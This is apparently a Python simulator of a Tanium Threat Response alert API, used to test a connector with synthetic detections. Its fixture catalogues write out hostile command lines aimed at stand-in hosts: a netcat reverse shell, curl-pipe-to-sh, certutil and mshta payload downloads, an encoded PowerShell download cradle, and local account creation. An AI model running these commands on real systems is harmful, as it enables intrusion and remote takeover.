"""A Tanium Threat Response 4.x server for the demo, the benchmark and every test.

Endpoints (all need the `session` header, else 401; a trailing slash is accepted):
  GET /plugin/products/threat-response/api/v1/alerts        list: filters, sort, limit, offset, expand
  GET /plugin/products/threat-response/api/v1/alerts/{id}
  GET /plugin/products/threat-response/api/v1/intels        list: name, description, type, labelId,
                                                              mitreTechniqueId, limit (50, max 500), offset
  GET /plugin/products/threat-response/api/v1/intels/{id}   404 for an unknown id
  GET /plugin/products/threat-response/api/v1/intels/{id}/labels
  GET /api/v2/session/current

Alerts list semantics: `limit` defaults to 100, more than 500 → 400; `offset` ≥ 0. Filters: `state`,
`severity`, `priority`, `type`, `matchType`, `intelType` match exactly; `intelDocId`, `scanConfigId` match
the number; `computerName`, `computerIpAddress`, `guid`, `path`, `intelDocName`, `intelSource`, `labelName`,
`mitreId`, `platform` (of the IntelDoc), `details` are case-insensitive "contains"; `alertedAtFrom` is
inclusive and `alertedAtUntil` exclusive (Z or offset, 0–9 fractional digits). The same parameter repeated
is OR, different parameters AND. `sort` is a comma list of columns, `-col` descending; ties are broken by
`id` in the direction of the first column. `expand=intelDoc` adds the doc (without labelIds/contents).
Replies are `{"data": …, "meta": {"totalCount", "filteredCount"}}` (or bare with `bare=True`, like 3.x).

Data: deterministic from `seed`. `alerts` history alerts are virtual (computed from their id on demand,
so a million cost no memory) with createdAt spread evenly over `history` seconds before `end`; ids
increase with createdAt; alertedAt is 0–5 min before createdAt, whole seconds. Injected and live alerts
are stored; they always get the next id and createdAt ≥ every earlier one, so (createdAt, id) order is
id order. Garbage records (a fault) carry negative ids and their neighbour's createdAt so they can never
move a (createdAt, id) cursor past real alerts.

Runtime API: `Simulator(...)` is a context manager; `.url`, `.api_key` (change it to make the token
"expire"), `.faults` (see `Faults`), `.stats` (requests per endpoint: alerts, alert, intels, intel,
intel_labels, session, unknown), `.inject(...)`, `.bump_revision(doc_id)`, `.get_alert(id)`,
`.alert_count`, `.intel_doc_ids`, `.settings(**tanium_overrides)`, `.stop()`.
Command line: `tanium-connector simulate` (`add_arguments`, `run`) or `python -m connector.simulator`.
"""
from __future__ import annotations

import argparse
import base64
import bisect
import functools
import hashlib
import logging
import os
import random
import re
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qsl, unquote

import orjson

from connector.timeutil import parse_duration, parse_ts

log = logging.getLogger(__name__)

TR_PATH = "/plugin/products/threat-response/api/v1"
MAX_LIMIT = 500
MAX_ALERT_DELAY_MS = 301_000  # alertedAt is at most 5 min (+ rounding to the second) before createdAt
_M64 = (1 << 64) - 1

ALERT_FIELDS = (
    "id", "eid", "state", "type", "guid", "priority", "severity", "details", "intelDocId", "groupingId",
    "intelDocRevisionId", "scanConfigId", "scanConfigRevisionId", "computerName", "computerIpAddress",
    "matchType", "path", "receivedAt", "suppressedAt", "alertedAt", "findingId", "ackedAt",
    "firstEIDResolutionAttempt", "lastEIDResolutionAttempt", "createdAt", "updatedAt",
)
EXACT_FILTERS = {"state", "severity", "priority", "type", "matchType"}
NUMBER_FILTERS = {"intelDocId", "scanConfigId"}
CONTAINS_FILTERS = {"computerName", "computerIpAddress", "guid", "path", "details"}
DOC_FILTERS = {"intelType", "intelDocName", "intelSource", "labelName", "mitreId", "platform"}
GARBAGE_KINDS = ("non_object", "missing_id", "wrong_types", "huge_details", "deep_nesting", "invalid_utf8")


def _mix(x: int) -> int:
    """splitmix64 finaliser: a cheap deterministic hash for per-alert choices."""
    x = (x + 0x9E3779B97F4A7C15) & _M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
    return x ^ (x >> 31)


def _h(*values: int) -> int:
    x = 0
    for v in values:
        x = _mix(x ^ (v & _M64))
    return x


@functools.lru_cache(maxsize=8192)
def _iso_second(s: int) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s))


def iso_ms(ms: int) -> str:
    """epoch milliseconds → 2023-10-16T12:29:34.849Z"""
    s, m = divmod(ms, 1000)
    return f"{_iso_second(s)}.{m:03d}Z"


def _to_ms(value: datetime | str | float | int) -> int:
    if isinstance(value, datetime):
        if value.tzinfo is None:
            raise ValueError(f"{value!r} has no time zone")
        return int(value.timestamp() * 1000)
    if isinstance(value, str):
        return int(parse_ts(value).timestamp() * 1000)
    return int(value * 1000)  # epoch seconds


def _now_ms() -> int:
    return time.time_ns() // 1_000_000


# ---------------------------------------------------------------------------------------------------
# Catalogues: realistic binaries, parents, files, intel, labels.

_WIN_LEAVES = [
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}"),
    ("cmd.exe", r"C:\Windows\System32\cmd.exe", 'cmd.exe /c "whoami /all > %TEMP%\\{n}.txt"'),
    ("rundll32.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\ProgramData\{n}\update.dll,DllRegister"),
    ("regsvr32.exe", r"C:\Windows\System32\regsvr32.exe",
     "regsvr32.exe /s /n /u /i:http://198.51.100.{o}/a.sct scrobj.dll"),
    ("mshta.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://203.0.113.{o}/payload.hta"),
    ("certutil.exe", r"C:\Windows\System32\certutil.exe",
     r"certutil.exe -urlcache -split -f http://192.0.2.{o}/tool.exe C:\Users\Public\{n}.exe"),
    ("wscript.exe", r"C:\Windows\System32\wscript.exe", r"wscript.exe //B C:\Users\Public\{n}.vbs"),
    ("schtasks.exe", r"C:\Windows\System32\schtasks.exe",
     r'schtasks.exe /create /sc minute /mo 15 /tn "Updater{n}" /tr C:\ProgramData\{n}\svc.exe'),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
     '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window'),
    ("net.exe", r"C:\Windows\System32\net.exe", "net.exe user backup{n} P@ssw0rd! /add"),
]
_WIN_PARENTS = [
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r'"WINWORD.EXE" /n "C:\Users\{u}\Downloads\invoice_{n}.docm"'),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"OUTLOOK.EXE"'),
    ("explorer.exe", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    ("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
    ("svchost.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
]
_WIN_ROOTS = [
    ("userinit.exe", r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe"),
    ("services.exe", r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
]
_LNX_LEAVES = [
    ("bash", "/usr/bin/bash", "bash -c 'curl -fsSL http://198.51.100.{o}/i.sh | sh'"),
    ("curl", "/usr/bin/curl", "curl -o /tmp/.{n} http://203.0.113.{o}/x"),
    ("python3", "/usr/bin/python3.11",
     "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.{o}\",4444))'"),
    ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 192.0.2.{o} 4444"),
    ("crontab", "/usr/bin/crontab", "crontab /tmp/.cron{n}"),
]
_LNX_PARENTS = [
    ("sshd", "/usr/sbin/sshd", "sshd: {u} [priv]"),
    ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
    ("bash", "/usr/bin/bash", "-bash"),
]
_LNX_ROOTS = [("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash")]
_WIN_FILES = [r"C:\Users\{u}\Downloads\invoice_{n}.zip.exe", r"C:\ProgramData\{n}\svc.dll",
              r"C:\Users\{u}\AppData\Local\Temp\{n}.tmp.exe", r"C:\Windows\Temp\eicar_{n}.com"]
_LNX_FILES = ["/tmp/.x{n}/kworker", "/var/tmp/{n}.so", "/dev/shm/.{n}", "/tmp/verybadvirus{n}.vrs"]
_USERS = ["jdoe", "asmith", "mgarcia", "lchen", "kpatel", "svc_backup", "rwilson", "tnguyen", "admin.ops"]
_REMOTE_PORTS = [443, 80, 4444, 8080, 22, 3389, 445, 53, 8443]
_WIN_OS = [("Microsoft Windows 11 Pro", "10.0.22621.0.0", "22621"),
           ("Microsoft Windows 10 Enterprise", "10.0.19045.0.0", "19045"),
           ("Microsoft Windows Server 2019 Datacenter", "10.0.17763.0.0", "17763")]
_LNX_OS = [("Ubuntu 22.04.4 LTS", None, None), ("Red Hat Enterprise Linux 9.3", None, None)]
_SIGNERS = [("Microsoft Windows Production PCA 2011", "Microsoft Windows"),
            ("Microsoft Code Signing PCA 2011", "Microsoft Corporation")]

_TECHNIQUES = [
    ("T1059.001", "Command and Scripting Interpreter: PowerShell"),
    ("T1218.011", "System Binary Proxy Execution: Rundll32"),
    ("T1218.010", "System Binary Proxy Execution: Regsvr32"), ("T1218.005", "System Binary Proxy Execution: Mshta"),
    ("T1105", "Ingress Tool Transfer"), ("T1053.005", "Scheduled Task/Job: Scheduled Task"),
    ("T1136.001", "Create Account: Local Account"), ("T1204.002", "User Execution: Malicious File"),
    ("T1071.001", "Application Layer Protocol: Web Protocols"), ("T1033", "System Owner/User Discovery"),
    ("T1134.002", "Access Token Manipulation: Create Process with Token"), ("T1055", "Process Injection"),
    ("T1055.012", "Process Injection: Process Hollowing"), ("T1027", "Obfuscated Files or Information"),
]
_LABELS = [(1, "Ransomware"), (2, "Lateral Movement"), (3, "Credential Access"), (4, "Persistence"),
           (5, "Living off the Land"), (6, "Command and Control"), (7, "Initial Access"), (8, "High Fidelity")]
_SOURCES = {1: "Tanium Signals", 2: "Custom Intel", 3: "Mandiant Indicators", 4: "YARA Rules",
            6: "Process Injection"}
_DOC_NAMES = {
    "tanium-signal": ["Suspicious PowerShell Encoded Command", "Office Spawned Script Interpreter",
                      "Rundll32 Loading DLL From ProgramData", "Regsvr32 Remote Scriptlet Execution",
                      "Certutil Download", "Scheduled Task Created From Temp", "Local Account Created",
                      "Reverse Shell Network Connection", "Outbound Connection To Rare Port"],
    "openioc": ["APT Dropper Hashes", "Commodity Loader IOC", "ELK - Linux Test Alert /tmp file"],
    "yara": ["Cobalt Strike Beacon", "Mimikatz Strings", "Webshell Generic"],
    "processInjection": ["Process Injection Intel"],
}


class Faults:
    """Switchable misbehaviour. `*_next = N` hits the next N matching requests, `*_rate` a fraction of
    them (deterministic from the seed). `endpoints` restricts faults to some endpoint names
    (alerts, alert, intels, intel, intel_labels, session); None = all."""

    def __init__(self, seed: int = 0):
        self._lock = threading.Lock()
        self._rng = random.Random(seed ^ 0xFA17)
        self.reset()

    def reset(self) -> None:
        self.endpoints: set[str] | None = None
        self.latency = 0.0                 # seconds before every reply
        self.rate_limit_next = 0           # 429
        self.rate_limit_rate = 0.0
        self.retry_after: str | None = "1"  # Retry-After value on 429 (seconds or HTTP date); None = omit
        self.error_next = 0                # 5xx
        self.error_rate = 0.0
        self.error_status = 503
        self.reset_next = 0                # connection reset after half the body
        self.reset_rate = 0.0
        self.stall_next = 0                # no reply for stall_seconds, then close
        self.stall_rate = 0.0
        self.stall_seconds = 30.0
        self.malformed_next = 0            # 200 with truncated JSON
        self.malformed_rate = 0.0
        self.garbage_next = 0              # alert pages with garbage records added
        self.garbage_rate = 0.0
        self.garbage_kinds: tuple[str, ...] = GARBAGE_KINDS
        self.garbage_per_page = 1
        self.huge_details_bytes = 10 * 1024 * 1024
        self.wrong_token = False           # 401 whatever the token
        self.module_missing = False        # 404 on every TR path
        self.forbidden = False             # 403 on every TR path (token without TR permissions)
        self.served: Counter = Counter()   # faults inflicted, by name
        self._garbage_turn = 0

    def applies(self, endpoint: str) -> bool:
        return self.endpoints is None or endpoint in self.endpoints

    def take(self, name: str) -> bool:
        """Consume one `<name>_next` or roll `<name>_rate`; count it when it hits."""
        with self._lock:
            left = getattr(self, f"{name}_next")
            hit = left > 0
            if hit:
                setattr(self, f"{name}_next", left - 1)
            else:
                rate = getattr(self, f"{name}_rate")
                hit = rate > 0 and self._rng.random() < rate
            if hit:
                self.served[name] += 1
            return hit

    def next_garbage_kind(self) -> str:
        with self._lock:
            kind = self.garbage_kinds[self._garbage_turn % len(self.garbage_kinds)]
            self._garbage_turn += 1
            return kind


class _Doc:
    """An IntelDoc plus what alerts need from it."""

    def __init__(self, did: int, kind: str, name: str, match_type: str, windows: bool, created_ms: int,
                 revisions: int, labels: list[int], techniques: list[tuple[str, str]] | None, source: int,
                 weight: float, seed: int):
        self.id, self.kind, self.name, self.match_type = did, kind, name, match_type
        self.windows, self.created_ms, self.revisions = windows, created_ms, revisions
        self.labels, self.techniques, self.source, self.weight, self.seed = labels, techniques, source, weight, seed
        self.extra_alerts = 0
        self.history_revisions = revisions  # bump_revision() moves only `revisions`
        self.threat_id = str(_h(seed, did, 6) >> 1)
        self.platforms = ["windows"] if windows else ["linux"]
        self.label_names = [n for i, n in _LABELS if i in labels]
        self.technique_ids = [t for t, _ in techniques or ()]
        self.uuid = "%08x-%04x-%04x-%04x-%012x" % (
            _h(seed, did, 1) >> 32, _h(seed, did, 2) >> 48, _h(seed, did, 3) >> 48, _h(seed, did, 4) >> 48,
            _h(seed, did, 5) >> 16)

    def body(self, n_alerts: int, full: bool = True) -> dict:
        rev = self.revisions
        updated = self.created_ms + (rev - 1) * 86_400_000 + 12_345
        compiled = None
        if self.kind == "tanium-signal":
            text = f"process.name contains '{self.name.split()[0].lower()}'"
            compiled = {"expressions": [], "terms": [{"condition": "contains", "negate": False,
                        "value": self.name.split()[0].lower(), "object": "process", "property": "name"}],
                        "operator": "and", "text": text, "syntax_version": 6}
        count = int(n_alerts * self.weight) + self.extra_alerts
        doc = {
            "id": self.id, "type": self.kind, "typeVersion": "3" if self.kind == "yara" else "1.0",
            "md5": hashlib.md5(f"{self.seed}:{self.id}:{rev}".encode()).hexdigest(),
            "blobId": self.uuid, "revisionId": rev,
            "intrinsicId": self.name if self.kind == "tanium-signal" else None,
            "name": self.name, "description": f"Detects {self.name.lower()} ({self.kind}).",
            "size": 200 + self.id % 900, "compiled": compiled, "isSchemaValid": True, "sourceId": self.source,
            "alertCount": count, "unresolvedAlertCount": count * 4 // 5, "customHash": None,
            "mitreAttack": {"techniques": [{"id": t, "name": n} for t, n in self.techniques]}
            if self.techniques else None,
            "platforms": self.platforms, "createdAt": iso_ms(self.created_ms), "updatedAt": iso_ms(updated),
            "throttledFindingCount": 0, "allowAutoDisable": self.kind != "processInjection", "disabled": False,
            "disabledEndpointCount": 0,
            "firstDeploymentTimestamp": iso_ms(self.created_ms + 3_600_000),
            "lastDeploymentTimestamp": iso_ms(updated + 60_000),
            "status": "N/A" if self.kind == "processInjection" else "HIGH_FIDELITY",
        }
        if full:
            doc["labelIds"] = list(self.labels)
            doc["suppressionRules"] = []
            doc["contents"] = orjson.dumps({"name": self.name, "syntax_version": 6}).decode() \
                if self.kind == "tanium-signal" else f"<{self.kind} document {self.id}>"
        return doc


class _Host:
    def __init__(self, seed: int, j: int):
        h = _h(seed, j, 77)
        self.windows = h % 10 < 8
        role = ["ws-fin", "ws-hr", "ws-eng", "srv-db", "srv-app", "lap-sales"][h % 6] if self.windows \
            else ["lnx-web", "lnx-build", "lnx-db"][h % 3]
        self.name = f"{role}-{j + 1:04d}.corp.local"
        self.ip = f"10.{20 + j // 250}.{j % 250}.{10 + (h >> 8) % 240}"
        self.eid = 1000 + j
        os_name, patch, build = (_WIN_OS if self.windows else _LNX_OS)[(h >> 16) % 3 if self.windows else (h >> 16) % 2]
        self.system_info = {"os": os_name, "bits": 64, "platform": "Windows" if self.windows else "Linux"}
        if patch:
            self.system_info.update(patch_level=patch, build_number=build)
        self.system_info_json = orjson.dumps(self.system_info).decode()
        self.users = [_USERS[(h >> (20 + 4 * k)) % len(_USERS)] for k in range(2)]
        self.domain = "CORP" if self.windows else ""


class _Data:
    """The alert store: virtual history alerts (1..n_base) followed by stored extra alerts."""

    def __init__(self, seed: int, n_base: int, n_docs: int, revisions: int, n_hosts: int, end_ms: int,
                 history_ms: int):
        self.seed, self.n_base = seed, n_base
        self.key = _h(seed, 0x5EED)
        self.span = max(1, history_ms)
        self.start_ms = end_ms - self.span
        self.hosts = [_Host(seed, j) for j in range(max(1, n_hosts))]
        self.win_hosts = [h for h in self.hosts if h.windows] or self.hosts
        self.lnx_hosts = [h for h in self.hosts if not h.windows] or self.hosts
        self.host_by_name = {h.name: h for h in self.hosts}
        self.b64 = [base64.b64encode(f"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.{k}/a')"
                                     .encode("utf-16-le")).decode() for k in range(1, 33)]
        self.docs: list[_Doc] = []
        kinds = ["tanium-signal", "tanium-signal", "openioc", "yara", "tanium-signal", "processInjection",
                 "tanium-signal", "yara"]
        raw = [1.0 / (k + 1) for k in range(max(1, n_docs))]  # Zipf: many alerts share few docs
        total = sum(raw)
        for k in range(max(1, n_docs)):
            kind = kinds[k % len(kinds)]
            names = _DOC_NAMES[kind]
            name = names[(k // len(kinds)) % len(names)]
            if k >= len(kinds) * len(names):
                name = f"{name} #{k}"
            match_type = {"openioc": "file", "yara": ("file", "process")[k % 2], "processInjection": "process"}.get(
                kind, ("process", "port")[1 if "Connection" in name or k % 5 == 4 else 0])
            windows = kind != "openioc" or k % 3 != 2
            h = _h(seed, k, 5)
            techniques = None
            if kind == "processInjection":
                techniques = [_TECHNIQUES[11], _TECHNIQUES[12]]
            elif kind != "openioc" or k % 2:
                techniques = [_TECHNIQUES[(h >> (8 * i)) % len(_TECHNIQUES)] for i in range(1 + h % 2)]
                techniques = list(dict.fromkeys(techniques))
            labels = sorted({_LABELS[(h >> (3 * i + 30)) % len(_LABELS)][0] for i in range(h % 4)})
            source = {"tanium-signal": 1, "openioc": 3, "yara": 4, "processInjection": 6}[kind]
            self.docs.append(_Doc(100 + k * 7 + h % 7, kind, name, match_type, windows,
                                  self.start_ms - 30 * 86_400_000 - k * 3_600_000,
                                  1 + (h >> 40) % max(1, revisions), labels, techniques, source,
                                  raw[k] / total, seed))
        self.doc_by_id = {d.id: d for d in self.docs}
        self.doc_index = {d.id: k for k, d in enumerate(self.docs)}
        self.cum = []
        acc = 0.0
        for w in raw:
            acc += w / total
            self.cum.append(acc)
        # binary hashes are fixed per (seed, path): the same binary has the same hash everywhere
        self._hashes: dict[str, tuple[str, str, str]] = {}
        self._templates: dict[tuple, str] = {}
        self._ancestries: dict[tuple[int, int], dict[str, str]] = {}
        self.extra: list[dict] = []
        self.extra_created: list[int] = []
        self.extra_alerted: list[int] = []
        self.extra_doc: list[_Doc | None] = []
        self.lock = threading.Lock()
        self.pruned = 0  # the oldest `pruned` alerts are deleted (Simulator.prune)

    # -- positions and times ----------------------------------------------------------------------
    def total(self) -> int:
        return self.n_base + len(self.extra)

    def created(self, pos: int) -> int:
        if pos < self.n_base:
            return self.start_ms + pos * self.span // self.n_base
        return self.extra_created[pos - self.n_base]

    def base_alerted(self, pos: int) -> int:
        delay = _mix(self.key ^ ((pos + 1) << 8) ^ 11) % 300_000
        return (self.created(pos) - delay) // 1000 * 1000

    def last_created(self) -> int:
        n = self.total()
        return self.created(n - 1) if n else 0

    def first_pos_created_at_least(self, t: int) -> int:
        return bisect.bisect_left(_CreatedView(self), t)

    def hashes(self, path: str) -> tuple[str, str, str]:
        got = self._hashes.get(path)
        if got is None:
            b = f"{self.seed}|{path}".encode()
            got = (hashlib.md5(b).hexdigest(), hashlib.sha1(b).hexdigest(), hashlib.sha256(b).hexdigest())
            self._hashes[path] = got
        return got

    def doc_for(self, pos: int) -> _Doc | None:
        if pos < self.n_base:
            u = (_mix(self.key ^ ((pos + 1) << 8) ^ 3) >> 11) / 2 ** 53
            return self.docs[min(bisect.bisect_left(self.cum, u), len(self.docs) - 1)]
        return self.extra_doc[pos - self.n_base]

    # -- building alerts --------------------------------------------------------------------------
    def top(self, pos: int) -> dict:
        """Top-level fields of the alert at `pos` (history alerts: without `details`)."""
        if pos >= self.n_base:
            return self.extra[pos - self.n_base]
        return self._top(pos + 1, self.created(pos), self.base_alerted(pos), self.doc_for(pos), {})

    def alert(self, pos: int) -> dict:
        """The wire alert at `pos` (details as a JSON string). Stored alerts are returned as is."""
        if pos >= self.n_base:
            return self.extra[pos - self.n_base]
        doc, alerted = self.doc_for(pos), self.base_alerted(pos)
        top = self._top(pos + 1, self.created(pos), alerted, doc, {})
        top["details"] = self._details(top, doc, {}, alerted)
        return top

    def _top(self, aid: int, created: int, alerted: int, doc: _Doc, ov: dict) -> dict:
        h = _mix(self.key ^ (aid << 8))
        h2 = _mix(h ^ 2)
        hosts = self.win_hosts if doc.windows else self.lnx_hosts
        host = hosts[h % len(hosts)]
        name, ip = ov.get("computer_name", host.name), ov.get("ip", host.ip)
        match_type = ov.get("match_type", doc.match_type)
        leaf = self._leaf(doc, h2)
        if match_type == "file":
            tmpl = (_WIN_FILES if doc.windows else _LNX_FILES)[(h2 >> 8) % 4]
            path = tmpl.format(u=host.users[(h2 >> 12) & 1], n=(h2 >> 16) % 100_000)
        else:
            path = leaf[1]
        path = ov.get("path", path)
        state_roll = (h >> 40) % 100
        state = "unresolved" if state_roll < 70 else "inprogress" if state_roll < 82 else \
            "resolved" if state_roll < 95 else "suppressed"
        severity = ("high", "high", "low", "info", "critical", "medium")[(h >> 48) % 6]
        priority = ("high", "high", "medium", "low", "critical")[(h >> 52) % 5]
        acked = created + 60_000 + (h >> 20) % 7_200_000 if state != "unresolved" else None
        rev = doc.revisions
        if aid <= self.n_base:  # history alerts walk through the doc's first revisions
            rev = 1 + (doc.history_revisions * (aid - 1)) // self.n_base
        rev = ov.get("intel_doc_revision", rev)
        scan = 1 + (h >> 56) % 3
        finding = _mix(h ^ 9) - (1 << 63)
        guid = "00000000-0000-0000-%04x-%012x" % ((h >> 32) & 0xFFFF, aid ^ (self.key & 0xFFFFFFFFFFFF))
        received = created - 100 - (h >> 4) % 400
        created_s, eid_s = iso_ms(created), iso_ms(created + 2_242)
        acked_s = iso_ms(acked) if acked else None
        return {
            "id": aid, "eid": host.eid, "state": ov.get("state", state), "type": "detect.match", "guid": guid,
            "priority": ov.get("priority", priority), "severity": ov.get("severity", severity), "details": None,
            "intelDocId": ov.get("intel_doc_id", doc.id), "groupingId": 1 + (h >> 28) % 9,
            "intelDocRevisionId": rev, "scanConfigId": ov.get("scan_config_id", scan), "scanConfigRevisionId": 1,
            "computerName": name, "computerIpAddress": ip, "matchType": match_type, "path": path,
            "receivedAt": iso_ms(received),
            "suppressedAt": acked_s if state == "suppressed" else None,
            "alertedAt": iso_ms(alerted), "findingId": str(finding), "ackedAt": acked_s,
            "firstEIDResolutionAttempt": eid_s, "lastEIDResolutionAttempt": eid_s,
            "createdAt": created_s, "updatedAt": iso_ms(acked + 7) if acked else created_s,
        }

    def _leaf(self, doc: _Doc, h2: int) -> tuple[str, str, str]:
        leaves = _WIN_LEAVES if doc.windows else _LNX_LEAVES
        if doc.match_type == "port":  # network-capable binaries
            leaves = [leaves[i] for i in ((0, 3, 4, 5, 8) if doc.windows else (1, 2, 3))]
        return leaves[(doc.id + (h2 & 3)) % len(leaves)]

    def _details(self, top: dict, doc: _Doc | None, ov: dict, alerted_ms: int) -> str:
        """The `details` JSON string: per-alert values (already JSON text) poured into a cached
        template of its shape; building the nested dicts per alert would cost 3× more."""
        if "details" in ov:
            raw = ov["details"]
            return raw if isinstance(raw, str) or raw is None else orjson.dumps(raw).decode()
        doc = doc or self.docs[0]
        shape = (doc.windows, top["matchType"], doc.kind == "processInjection")
        tmpl = self._templates.get(shape)
        if tmpl is None:
            tmpl = self._templates[shape] = _compile(_details_tree(shape, _SLOTS))
        return tmpl.format_map(self._detail_values(top, doc, ov, alerted_ms))

    def _detail_values(self, top: dict, doc: _Doc, ov: dict, alerted_ms: int) -> dict[str, str]:
        """Slot name → JSON text of the value."""
        aid = top["id"]
        rng = random.Random(self.key ^ (aid << 8) ^ 99)
        rand, bits = rng.random, rng.getrandbits
        windows = doc.windows
        host = self.host_by_name.get(top["computerName"]) or (self.win_hosts if windows else self.lnx_hosts)[0]
        user0 = host.users[0]
        leaf = self._leaf(doc, _mix(_mix(self.key ^ (aid << 8)) ^ 2))
        leaf_path = top["path"] if top["matchType"] != "file" else leaf[1]
        n, o = int(rand() * 100_000), 1 + int(rand() * 249)
        md5, sha1, sha256 = self.hashes(leaf_path)
        j, jc = _json, _json_cached
        v = {"domain": jc(host.domain), "match_hash": f'"{bits(63)}"', "ih": f'"{bits(63)}"',
             "intra": f'"{doc.threat_id}"', "hunt_id": f'"{top["scanConfigId"]}"',
             "finding_intel_id": j(f"{top['intelDocId']}:{top['intelDocRevisionId']}:{doc.uuid}"),
             "seen": f'"{top["alertedAt"]}"', "threat_id": '"Thread"' if doc.kind == "processInjection"
             else f'"{doc.threat_id}"', "finding_id": f'"{top["findingId"]}"', "system_info": host.system_info_json,
             "reporting_id": f'"reporting-{host.eid}"', "intel_id": j(top["intelDocId"]),
             "config_id": j(top["scanConfigId"]), "config_rev_id": j(top["scanConfigRevisionId"])}
        if top["matchType"] == "file":  # a file at rest: no process
            fmd5, fsha1, fsha256 = self.hashes(top["path"])
            v.update(fmd5=j(ov.get("md5", fmd5)), fsha1=j(ov.get("sha1", fsha1)), fsha256=j(ov.get("sha256", fsha256)),
                     fsize=j(str(ov.get("size", 1_000 + int(rand() * 5_000_000)))), fpath=j(top["path"]))
            return v
        ancestry = self._ancestry(host, int(rand() * 8))
        v.update(ancestry)
        args = ov.get("args") or leaf[2].format(b64=self.b64[aid % len(self.b64)], n=n, o=o, u=user0)
        user = ov.get("user") or (f"{host.domain}\\{user0}" if windows else user0)
        ts_ms = alerted_ms - int(rand() * 30_000)
        target = f"C:\\Users\\{user0}\\AppData\\Local\\Temp\\{n}.tmp" if windows else f"/tmp/.{n}"
        v.update(pid0=str(400 + int(rand() * 30_000)), ppid0=ancestry["pid1"],
                 name0=jc(ov.get("process_name", leaf[0])), path0=jc(leaf_path), args0=j(args),
                 md50=j(ov["md5"]) if "md5" in ov else f'"{md5}"', sha10=j(ov["sha1"]) if "sha1" in ov else f'"{sha1}"',
                 sha2560=j(ov["sha256"]) if "sha256" in ov else f'"{sha256}"', user0=jc(user),
                 uname0=jc(user.split("\\")[-1]), uid0=f'"{bits(63)}"', ah0=f'"{bits(63)}"', ih0=f'"{bits(63)}"',
                 start0=f'"{iso_ms((alerted_ms - 1_000 - int(rand() * 600_000)) // 1000 * 1000)}"',
                 ts=f'"{iso_ms(ts_ms // 1000 * 1000)}"', ts_ms=f'"{ts_ms}"', event_id=f'"{bits(63)}"',
                 ah=f'"{bits(63)}"', ih2=f'"{bits(63)}"', alerted=f'"{top["alertedAt"]}"',
                 address=f'"0x00007ffc{bits(32):08x}"', target=j(target),
                 local_ip=j(ov.get("local_ip", top["computerIpAddress"])),
                 remote_ip=j(ov.get("remote_ip", f"203.0.113.{o}")),
                 local_port=j(ov.get("local_port", 49152 + int(rand() * 16383))),
                 remote_port=j(ov.get("remote_port", _REMOTE_PORTS[int(rand() * len(_REMOTE_PORTS))])))
        return v

    def _ancestry(self, host: _Host, variant: int) -> dict[str, str]:
        """The parent and root processes as ready JSON (one of 8 chains per host): ancestors are
        long-lived, so the same few instances parent many alerts, and they cost nothing per alert."""
        key = (host.eid, variant)
        got = self._ancestries.get(key)
        if got is not None:
            return got
        rng = random.Random(_h(self.seed, host.eid, variant))
        parents, roots = (_WIN_PARENTS, _WIN_ROOTS) if host.windows else (_LNX_PARENTS, _LNX_ROOTS)
        user = "NT AUTHORITY\\SYSTEM" if host.windows else "root"
        t = self.start_ms - rng.randrange(3_600_000, 30 * 86_400_000)
        v, pid_parent = {"domain": host.domain}, 4
        for k, tbl in ((2, roots), (1, parents)):
            name, path, args = tbl[rng.randrange(len(tbl))]
            md5, sha1, sha256 = self.hashes(path)
            pid = rng.randrange(400, 30_000)
            t += rng.randrange(1_000, 3_600_000)
            v.update({f"pid{k}": pid, f"ppid{k}": pid_parent, f"name{k}": name, f"path{k}": path,
                      f"args{k}": args.format(u=host.users[0], n=rng.randrange(10_000)), f"md5{k}": md5,
                      f"sha1{k}": sha1, f"sha256{k}": sha256, f"user{k}": user, f"uname{k}": user.split("\\")[-1],
                      f"uid{k}": str(rng.getrandbits(63)), f"ah{k}": str(rng.getrandbits(63)),
                      f"ih{k}": str(rng.getrandbits(63)), f"start{k}": iso_ms(t // 1000 * 1000)})
            pid_parent = pid
        root = _process_nodes(v, 2, host.windows, None, None)
        parent = _process_nodes(v, 1, host.windows, root[0], root[1])
        got = {"props_parent": _json(parent[0]), "acting_parent": _json(parent[1]), "pid1": str(v["pid1"])}
        self._ancestries[key] = got
        return got

    def append(self, aid_created_alerted: tuple[int, int], doc: _Doc | None, ov: dict) -> dict:
        """Build and store one alert with the next id (caller holds the lock)."""
        created, alerted = aid_created_alerted
        aid = self.total() + 1
        top = self._top(aid, created, alerted, doc or self.docs[0], ov)
        top["details"] = self._details(top, doc, ov, alerted)
        for k, v in (ov.get("fields") or {}).items():
            top[k] = v
        self.extra.append(top)
        self.extra_created.append(created)
        self.extra_alerted.append(alerted)
        self.extra_doc.append(doc)
        if doc:
            doc.extra_alerts += 1
        return top


class _SlotNames(dict):
    """In template mode every value is a sentinel naming its slot."""

    def __missing__(self, key: str) -> str:
        return f"\x00{key}\x00"


